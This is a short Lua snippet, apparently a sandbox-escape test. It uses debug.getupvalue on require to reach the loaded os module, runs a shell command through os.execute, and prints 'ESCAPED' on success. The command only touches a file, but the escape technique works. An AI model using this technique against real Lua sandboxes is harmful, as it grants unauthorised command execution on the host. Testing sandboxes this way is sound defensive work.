-- debug.getupvalue takes a C closure's secrets, such as the loaded modules behind require
print(debug.getupvalue(require, 1).os.execute("touch started"))
print("ESC" .. "APED")
